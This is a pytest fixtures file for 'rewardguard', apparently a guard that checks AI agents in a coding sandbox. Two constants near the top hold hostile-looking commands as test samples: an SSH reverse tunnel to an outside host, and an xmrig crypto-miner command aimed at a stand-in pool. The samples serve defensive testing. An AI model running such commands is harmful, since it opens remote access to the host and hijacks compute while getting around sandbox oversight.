"""Shared fixtures. The tests import the installed `rewardguard` package
(`pip install --no-build-isolation .`, which scripts/build.sh runs)."""

import pytest

import rewardguard as rg
import rewardguard.envs  # noqa: F401  (registers rewardguard/ToolSandbox-v0)

TUNNEL = "ssh -R 9000:localhost:22 tunnel@203.0.113.5"
MINER = "xmrig -o stratum+tcp://pool.minexmr.example:4444 -u wallet"


@pytest.fixture(scope="session")
def policy():
    return rg.Policy.load("coding-sandbox")


@pytest.fixture
def guard(policy):
    return rg.Guard(policy, num_envs=4)
